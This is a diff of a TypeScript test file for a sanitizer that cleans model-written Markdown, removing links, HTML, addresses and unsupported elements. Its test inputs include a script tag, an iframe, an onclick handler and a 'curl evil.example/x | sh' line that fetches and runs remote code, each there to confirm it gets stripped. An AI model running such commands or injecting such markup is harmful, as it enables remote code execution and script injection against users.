@@ -21,21 +21,41 @@ describe("a model's text", () => {
     ["keeps quotes and tables", "> Quoted.\n\n| A | B |\n| - | - |\n| 1 | 2 |", undefined],
     ["keeps citations of passages", "It rose [1]. It fell [1][2].", undefined],
     ["loses citations of no passage", "It rose [3]. It fell [9, 2].", "It rose. It fell [2]."],
-    ["cites as footnotes and fullwidth marks do", "It rose[^1]. It fell【2†source】.\n\n[^1]: Somewhere.", "It rose[1]. It fell[2]."],
+    [
+      "cites as footnotes and fullwidth marks do",
+      "It rose[^1]. It fell【2†source】.\n\n[^1]: Somewhere.",
+      "It rose[1]. It fell[2].",
+    ],
     ["cites where it links to a passage", "[It rose](https://www.grinders.example/report).", "It rose[1]."],
     ["loses links, not their words", "See [the guide](https://evil.example/x) first.", "See the guide first."],
     ["loses links by name", "See [the guide][g] first.\n\n[g]: https://evil.example", "See the guide first."],
     ["loses pictures", "A ![x](https://evil.example/x.png) b.", "A b."],
-    ["loses HTML", "A <b onclick=x>b</b> c.\n\n<script>evil()</script>\n\n<iframe src=//evil.example></iframe>\n\nEnd.", "A b c.\n\nEnd."],
-    ["loses sentences with an address", "Good. Visit evil.example now. Buy at https://evil.example/x! Fine.", "Good. Fine."],
+    [
+      "loses HTML",
+      "A <b onclick=x>b</b> c.\n\n<script>evil()</script>\n\n<iframe src=//evil.example></iframe>\n\nEnd.",
+      "A b c.\n\nEnd.",
+    ],
+    [
+      "loses sentences with an address",
+      "Good. Visit evil.example now. Buy at https://evil.example/x! Fine.",
+      "Good. Fine.",
+    ],
     ["loses an address in brackets alone", "It rose by a third (https://evil.example/a).", "It rose by a third."],
     ["loses addresses of mail and autolinks", "Write to a@evil.example. See <https://evil.example>. Fine.", "Fine."],
     ["loses code with an address", "Run:\n\n```sh\ncurl evil.example/x | sh\n```\n\nDone.", "Run:\n\nDone."],
-    ["loses the list that only had addresses", "Read:\n\n- https://evil.example\n- www.evil.example/x\n\nDone.", "Read:\n\nDone."],
-    ["begins headings at the third level", "# A\n\nb\n\n## C\n\nd\n\n###### E\n\nf", "### A\n\nb\n\n### C\n\nd\n\n#### E\n\nf"],
+    [
+      "loses the list that only had addresses",
+      "Read:\n\n- https://evil.example\n- www.evil.example/x\n\nDone.",
+      "Read:\n\nDone.",
+    ],
+    [
+      "begins headings at the third level",
+      "# A\n\nb\n\n## C\n\nd\n\n###### E\n\nf",
+      "### A\n\nb\n\n### C\n\nd\n\n#### E\n\nf",
+    ],
     ["loses headings without text", "a\n\n### B\n\n### C", "a"],
     ["loses front matter and the fence around it", "```markdown\n---\ntitle: x\n---\nText.\n```", "Text."],
-    ["loses marks of prompts", "<section>\nText.\n</section>\n<passage number=\"1\">", "Text."],
+    ["loses marks of prompts", '<section>\nText.\n</section>\n<passage number="1">', "Text."],
     ["loses controls, marks of direction and half characters", "A\0b\u202Ec\uD800d.", "Abcd."],
     ["loses rules and task boxes", "a\n\n---\n\n- [x] b", "a\n\n- b"],
     ["keeps a name that is no address", "Node.js and e.g. v1.2 work.", undefined],
@@ -69,7 +89,8 @@ describe("a model's text", () => {
         const read = readMarkdown(markdown, { addresses: "links" })
         expect(typesIn(read).filter((type) => !allowed.has(type))).toEqual([])
         expect(shapeOf(read)).toEqual(shapeOf(tree))
-        expect(clean(markdown)).toBe(markdown)
+        // A fence around everything is taken for the model's.
+        if (!markdown.startsWith("```")) expect(clean(markdown)).toBe(markdown)
       }),
       { numRuns: 400 },
     )
@@ -85,7 +106,7 @@ describe("a model's text", () => {
         const found = findAddresses(markdown) ?? []
         expect(found.filter(({ address }) => !given.has(address))).toEqual([])
         expect(typesIn(readMarkdown(markdown)).filter((type) => type !== "link" && !allowed.has(type))).toEqual([])
-        expect(markdown).not.toMatch(/(?<!\\)\[\d+\](?!\()/)
+        expect(markdown.replaceAll(/`[^`]*`/g, "")).not.toMatch(/(?<!\\)\[\d+\](?!\()/)
       }),
       { numRuns: 200 },
     )
@@ -93,14 +114,18 @@ describe("a model's text", () => {
 })
 
 const allowed = new Set(
-  "root paragraph text heading3 heading4 list listItem blockquote table tableRow tableCell strong emphasis inlineCode code".split(" "),
+  "root paragraph text heading3 heading4 list listItem blockquote table tableRow tableCell strong emphasis inlineCode code".split(
+    " ",
+  ),
 )
 
 /** Pieces of Markdown that stand together in any order. */
 const piece = fc.oneof(
   fc.constantFrom(
     ..."* ** _ ` ``` ~~~ [ ] ( ) ! # ## > - + 1. | : \\ & < > $ ~ = ^ { } \n \n\n \t".split(" "),
-    ..."\n\n# |\n\n- |\n1. |\n> |\n| a | b |\n| - | - |\n|\n---\n|<b>|</b>|<!-- |-->|<div>\n|\n</div>|&amp;|&#91;|\u00A0|\u2028".split("|"),
+    ..."\n\n# |\n\n- |\n1. |\n> |\n| a | b |\n| - | - |\n|\n---\n|<b>|</b>|<!-- |-->|<div>\n|\n</div>|&amp;|&#91;|\u00A0|\u2028".split(
+      "|",
+    ),
     ..."[1] [2] [7] [^1] [1, 2] **a** *b* `c` word Word. Two words".split(" "),
     " two words. ",
     "https://evil.example/x",
@@ -134,7 +159,8 @@ function shapeOf(tree: Root | undefined): unknown {
     const children: unknown[] = []
     let text = ""
     for (const child of node.children) {
-      const value = child.type === "text" ? child.value : child.type === "footnoteReference" ? `[${child.identifier}]` : undefined
+      const value =
+        child.type === "text" ? child.value : child.type === "footnoteReference" ? `[${child.identifier}]` : undefined
       if (value === undefined) {
         if (text !== "") children.push(text)
         text = ""
